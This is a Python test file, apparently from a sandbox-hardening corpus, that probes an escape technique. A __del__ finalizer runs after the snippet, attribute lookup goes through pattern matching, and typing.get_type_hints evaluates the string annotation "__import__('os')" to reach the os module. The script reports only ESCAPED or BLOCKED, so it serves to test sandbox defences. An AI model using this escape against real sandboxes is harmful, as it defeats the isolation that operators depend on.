# technique: an object whose __del__ runs when the sandbox clears the snippet's namespace, after the snippet has returned: the payload (typing.get_type_hints evaluating "__import__('os')" with globalns={}) runs outside whatever is armed only during the snippet
# source: sandbox design flaw class: code deferred past the end of the sandboxed region (finalizers; RestrictedPython / PyPy sandbox write-ups)
# note: in plain CPython the deferred run happens at interpreter shutdown, when imports no longer work (the inline payload shows the technique); in a sandbox the namespace is cleared while the interpreter is alive

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import abc, collections, dataclasses, functools


def pub(mod, name):
    """mod.<name> for a name held as data: a namedtuple's __match_args__ is
    its field names, and an ABC registered for the module type matches."""
    N = collections.namedtuple('N', [name])

    class P(N, abc.ABC):
        pass
    P.register(type(mod))
    match mod:
        case P(v):
            return v
    raise AttributeError(name)


import typing

hints = pub(typing, 'get_type_hints')


def annotated(x: "__import__('os')"):
    pass


def payload(label, hints=hints, annotated=annotated, print=print,
            BaseException=BaseException, type=type, str=str):
    # Self-contained: it may run after the sandbox has cleared the globals.
    try:
        m = hints(annotated, globalns={})['x']
        if type(m).__name__ == 'module' and m.__name__ == 'os':
            print('ESCAPED', label + ': module os')
        else:
            print('BLOCKED', label + ': reached only a', type(m).__name__)
    except BaseException as e:
        print('BLOCKED', label + ':', type(e).__name__, str(e)[:160])

payload('get_type_hints while the snippet runs')


class Later:
    def __del__(self, payload=payload):
        payload('get_type_hints in __del__ after the snippet')

keep = Later()
